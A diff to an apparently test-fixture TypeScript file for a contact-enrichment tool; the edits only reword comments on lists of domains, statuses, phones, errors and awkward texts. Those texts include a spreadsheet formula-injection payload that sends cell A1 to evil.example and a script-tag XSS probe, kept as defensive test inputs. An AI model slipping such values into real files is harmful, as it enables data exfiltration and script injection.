@@ -134,14 +134,14 @@ export const LOCAL_PARTS: Words = [
   '{first}',
 ];
 
-/** Domains other than the one asked for, on which real platforms find some addresses. */
+/** Domains other than that of the inputs, on which real platforms find some addresses. */
 export const OTHER_DOMAINS: Words = [
   '{firm}-group.example',
   '{firm}-holding.example',
   'old-{firm}.example',
 ];
 
-/** For each status its share; the rest is `unknown`. */
+/** The share of each status; the rest is `unknown`. */
 export const FOUND_STATUSES = { deliverable: 0.86, risky: 0.08, unknown: 0.06 } as const;
 export const VERIFIED_STATUSES = {
   deliverable: 0.74,
@@ -153,7 +153,7 @@ export const VERIFIED_STATUSES = {
 /** In international format; each # is a digit. */
 export const PHONES: Words = ['+1 202 555 01##', '+44 7700 900###', '+33 1 99 00 ## ##'];
 
-/** Why an enrichment ended in an error. */
+/** The reasons why enrichments ended in an error. */
 export const ERRORS: Words = [
   'The profile could not be read.',
   'A data source did not answer in time.',
@@ -176,12 +176,12 @@ export const AWKWARD_TEXTS: Words = [
   '{text}\nsecond line',
   '{text}\r\nsecond line\r\n',
   '{text}\u2028next\u00a0line\u200b',
-  // What a spreadsheet takes for a formula.
+  // Text that a spreadsheet takes for a formula.
   '=HYPERLINK("https://evil.example/?x="&A1,"{text}")',
   '+1+1 {text}',
   '-2+3 {text}',
   '@SUM(1,1) {text}',
-  // Space around it, HTML, and what a spreadsheet takes for a number or a date.
+  // Space around the text, HTML, and text that a spreadsheet takes for a number or a date.
   '  {text}  ',
   '<b>{text}</b><script>alert("x")</script>&amp;',
   '007',
